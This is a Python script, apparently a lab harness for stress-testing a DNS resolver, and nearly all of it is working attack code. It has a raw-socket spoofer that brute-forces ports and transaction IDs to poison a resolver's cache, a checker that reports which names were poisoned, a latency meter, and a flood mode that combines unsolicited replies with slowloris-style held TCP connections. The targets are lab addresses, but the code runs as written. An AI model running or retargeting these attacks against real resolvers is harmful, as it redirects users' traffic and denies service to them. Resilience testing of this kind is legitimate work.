# SPDX-License-Identifier: MIT
"""Who forges replies, and who measures what others suffer.

dns_attack.py forge COUNT
    replies in the name of 192.0.2.2:53 to ports of 192.0.2.1 at random
dns_attack.py victims FROM
    asks for the 64 names that those are about; a line each: "forged", "true" or
    "failed"
dns_attack.py measure FROM COUNT PER_SECOND [SERVER]
    asks SERVER (10.88.0.1) from FROM; says "LOST P99_MS"
dns_attack.py nonsense FROM SECONDS
    replies instead of questions, and 100 connections that send a byte a second
    of a frame that says it has 64 KiB
"""

import random
import select
import socket
import struct
import sys
import time


def question(number, name, flags=0x100):
    labels = b"".join(bytes([len(x)]) + x for x in name.split(b"."))
    return struct.pack("!6H", number, flags, 1, 0, 0, 0) + labels + (
        b"\0\0\1\0\1")


def forge(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ends = [socket.inet_aton("192.0.2.2"), socket.inet_aton("192.0.2.1")]
    low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range",
        encoding="ascii").read().split())
    answer = b"\xc0\x0c\0\1\0\1\0\0\x0e\x10\0\4" + bytes([203, 0, 113, 66])
    replies = []
    for n in range(64):
        body = bytearray(question(0, b"silent.n%d.example" % n, 0x8180))
        body[7] = 1
        body += answer
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(body), 0, 0, 64,
            17, 0, *ends)
        replies.append((head, struct.pack("!HH", 8 + len(body), 0),
            bytes(body[2:])))
    for i in range(int(count)):
        bits = random.getrandbits(32)
        head, udp, rest = replies[i & 63]
        port = low + (bits >> 16) % (high - low + 1)
        try:
            s.sendto(head + struct.pack("!HH", 53, port) + udp +
                struct.pack("!H", bits & 0xFFFF) + rest, ("192.0.2.1", 0))
        except OSError:  # no room just now
            pass


def victims(source):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((source, 0))
    s.connect(("10.88.0.1", 53))
    for n in range(64):
        s.send(question(n, b"silent.n%d.example" % n))
    for _ in range(64):
        if not select.select([s], [], [], 8)[0]:
            break
        reply = s.recv(2048)
        if bytes([203, 0, 113, 66]) in reply:
            print("forged")
        else:
            print("failed" if reply[3] & 15 else "true")


def measure(source, count, rate, server="10.88.0.1"):
    count, gap = int(count), 1 / int(rate)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((source, 0))
    s.connect((server, 53))
    sent, took = {}, []
    start = time.monotonic()
    for n in range(count + int(2 / gap)):  # the last ones have two seconds
        if n < count:
            sent[n] = time.monotonic()
            s.send(question(n, b"m%d.example" % n))
        while (left := start + (n + 1) * gap - time.monotonic()) > 0:
            if not select.select([s], [], [], left)[0]:
                break
            reply = s.recv(2048)
            number, _, _, answers = struct.unpack("!4H", reply[:8])
            if answers and number in sent:
                took.append(time.monotonic() - sent.pop(number))
    took.sort()
    p99 = took[len(took) * 99 // 100] * 1000 if took else 9999
    print(count - len(took), int(p99))


def nonsense(source, seconds):
    slow = []
    for _ in range(100):
        s = socket.socket()
        s.setblocking(False)
        s.bind((source, 0))
        s.connect_ex(("10.88.0.1", 53))
        slow.append(s)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((source, 0))
    end = time.monotonic() + float(seconds)
    turn = 0
    while time.monotonic() < end:
        for n in range(20):
            u.sendto(question(n, b"web", 0x8180), ("10.88.0.1", 53))
        if turn % 100 == 0:
            for s in slow:
                try:
                    s.send(b"\xff\xff" if turn == 0 else b"x")
                except OSError:  # it was closed
                    pass
        turn += 1
        time.sleep(0.01)


globals()[sys.argv[1]](*sys.argv[2:])
